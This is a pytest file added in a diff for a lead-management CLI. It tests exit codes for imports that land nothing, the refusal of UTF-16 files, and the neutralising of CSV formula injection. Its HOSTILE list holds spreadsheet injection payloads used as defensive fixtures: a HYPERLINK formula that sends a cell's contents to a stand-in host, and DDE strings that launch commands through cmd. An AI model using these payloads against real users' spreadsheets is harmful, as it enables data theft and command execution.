@@ -1,0 +1,186 @@
+"""Hostile input over the CLI: imports that land nothing, CSV cells that are formulas.
+
+Each case is a bug a user met: an import where every row was rejected exited 0 (a
+nightly script saw success), and a lead named `=HYPERLINK(...)` became a live formula
+in the spreadsheet that opened a report.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import orjson
+import pytest
+from typer.testing import CliRunner
+
+from leadgate.cli.main import app
+
+runner = CliRunner()
+
+
+def run(*args: str) -> tuple[int, str, str]:
+    r = runner.invoke(app, list(args))
+    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
+    return r.exit_code, r.stdout, r.stderr
+
+
+@pytest.fixture
+def db(sqlite_url: str) -> list[str]:
+    assert run("init", "--db", sqlite_url)[0] == 0
+    return ["--db", sqlite_url]
+
+
+# -- 5. an import that lands nothing ---------------------------------------------------
+
+
+def test_an_import_where_every_row_is_rejected_exits_1(db: list[str], tmp_path: Path) -> None:
+    bad = tmp_path / "bad.csv"
+    bad.write_text("email,company\nnot-an-email,A\nalso bad,B\n")
+    code, out, err = run("lead", "import", str(bad), *db)
+    assert code == 1, (out, err)
+    assert "nothing imported: 2 of 2 rows rejected" in err
+    code, out, err = run("lead", "import", str(bad), "--json", *db)
+    assert code == 1
+    assert orjson.loads(out)["rejected"] == 2  # the report is still printed
+
+    events = tmp_path / "bad.jsonl"
+    events.write_text('{"email": "", "type": "page_view"}\n{nope\n')
+    code, out, err = run("event", "ingest", str(events), *db)
+    assert code == 1, (out, err)
+    assert "nothing imported: 2 of 2 lines rejected" in err
+
+
+def test_partial_imports_and_reimports_still_exit_0(db: list[str], tmp_path: Path) -> None:
+    mixed = tmp_path / "mixed.csv"
+    mixed.write_text("email,company\nann@acme.com,Acme\nnot-an-email,B\n")
+    assert run("lead", "import", str(mixed), *db)[0] == 0
+    events = tmp_path / "ev.jsonl"
+    events.write_text('{"id": "e1", "email": "ann@acme.com", "type": "page_view"}\n{nope\n')
+    assert run("event", "ingest", str(events), *db)[0] == 0
+    # Again: the good line is a duplicate now (already stored), which is not a failure.
+    assert run("event", "ingest", str(events), *db)[0] == 0
+    empty = tmp_path / "empty.csv"
+    empty.write_text("email,company\n")
+    assert run("lead", "import", str(empty), *db)[0] == 0
+
+
+# -- 4. CSV formula injection ------------------------------------------------------------
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _cells(path: Path) -> list[list[str]]:
+    import csv
+
+    with path.open(newline="", encoding="utf-8") as fh:
+        return list(csv.reader(fh))
+
+
+def _no_formula(rows: list[list[str]]) -> None:
+    for row in rows:
+        for cell in row:
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
+                # Only a plain number may start with a sign.
+                float(cell)
+
+
+def test_report_csv_neutralises_formulas_and_keeps_numbers(db: list[str], tmp_path: Path) -> None:
+    for i, src in enumerate(HOSTILE):
+        code, out, err = run(
+            "lead", "add", "--email", f"l{i}@acme.com", "--set", f"source={src}", *db
+        )
+        assert code == 0, (out, err)
+    out_csv = tmp_path / "sources.csv"
+    code, out, err = run("report", "sources", "--csv", str(out_csv), *db)
+    assert code == 0, (out, err)
+    rows = _cells(out_csv)
+    _no_formula(rows)
+    firsts = {r[0] for r in rows[1:]}
+    assert "'" + HOSTILE[0].lower() in firsts  # the breakdown lower-cases sources
+    assert "'-2+3+cmd|' /c calc'!a0" in firsts
+    # Counts are numbers, written as numbers (no quote).
+    assert all(r[1].isdigit() for r in rows[1:])
+
+
+def test_the_shared_helper_keeps_numbers_as_numbers(tmp_path: Path) -> None:
+    import io
+
+    from leadgate.csvout import dict_writer, safe_cell, writer
+
+    assert safe_cell(-5) == -5 and safe_cell(-0.25) == -0.25 and safe_cell(None) is None
+    assert safe_cell(True) is True
+    for plain in ("-5", "+3.25", "-1e3", ".5", "Acme", "", "a=b", "ann+tag@acme.com"):
+        assert safe_cell(plain) == plain
+    for bad in [*HOSTILE, "-", "=", "-5 ", "- 5", "-5+1", "\n=1"]:
+        assert safe_cell(bad) == "'" + bad
+    buf = io.StringIO()
+    w = writer(buf)
+    w.writerow(["=x", -5, 1.5, "-5"])
+    d = dict_writer(buf, ["@a", "b"])
+    d.writeheader()
+    d.writerow({"@a": "+1", "b": -2})
+    assert buf.getvalue().splitlines() == ["'=x,-5,1.5,-5", "'@a,b", "+1,-2"]
+
+
+def test_backtest_files_are_neutralised(tmp_path: Path) -> None:
+    from types import SimpleNamespace
+
+    from leadgate.cli.analytics import save_backtest
+
+    res = SimpleNamespace(
+        months=[{"month": "2026-05", "mqls_old": 3, "mqls_new": 1, "delta": -2}],
+        changed=[
+            {"lead_id": 7, "email": "=1+2@acme.com", "change": "lost", "days_shift": -1.5},
+            {"lead_id": 8, "email": "-x@acme.com", "change": "lost", "days_shift": None},
+        ],
+        to_dict=lambda: {"totals": {}},
+    )
+    save_backtest(res, tmp_path / "bt")
+    changed = _cells(tmp_path / "bt" / "changed.csv")
+    _no_formula(changed)
+    assert changed[1] == ["7", "'=1+2@acme.com", "lost", "-1.5"]
+    assert changed[2][1] == "'-x@acme.com"
+    assert _cells(tmp_path / "bt" / "monthly.csv")[1] == ["2026-05", "3", "1", "-2"]
+
+
+def test_predict_csv_output_is_neutralised(tmp_path: Path) -> None:
+    import numpy as np
+
+    from leadgate.predictive.score import score_csv
+
+    class Model:
+        id_column = "id"
+
+        def predict_proba(self, frame: object) -> object:
+            return np.full(len(frame), 0.5)  # type: ignore[arg-type]
+
+    src = tmp_path / "in.csv"
+    src.write_text("id,x\n\"=cmd|' /C calc'!A0\",1\n-7,2\nplain,3\n", encoding="utf-8")
+    out = tmp_path / "out.csv"
+    score_csv(Model(), src, out)
+    rows = _cells(out)
+    _no_formula(rows)
+    assert rows[1][0] == "'=cmd|' /C calc'!A0"
+    assert rows[2][0] == "-7" and rows[3][0] == "plain"
+
+
+def test_a_utf16_file_is_refused_in_one_line(db: list[str], tmp_path: Path) -> None:
+    # Excel's "Unicode text": every line would be rejected one by one as garbage.
+    path = tmp_path / "contacts.csv"
+    path.write_bytes("email,company\nann@acme.com,Acme\n".encode("utf-16"))
+    code, out, err = run("lead", "import", str(path), *db)
+    assert code == 2, (out, err)
+    lines = err.strip().splitlines()
+    assert len(lines) == 1 and "UTF-16" in lines[0] and "save it as UTF-8" in lines[0]
+    jsonl = tmp_path / "ev.jsonl"
+    jsonl.write_bytes('{"email": "a@x.io", "type": "page_view"}\n'.encode("utf-16-be"))
+    jsonl.write_bytes(b"\xfe\xff" + jsonl.read_bytes())
+    code, _, err = run("event", "ingest", str(jsonl), *db)
+    assert code == 2 and "UTF-16" in err
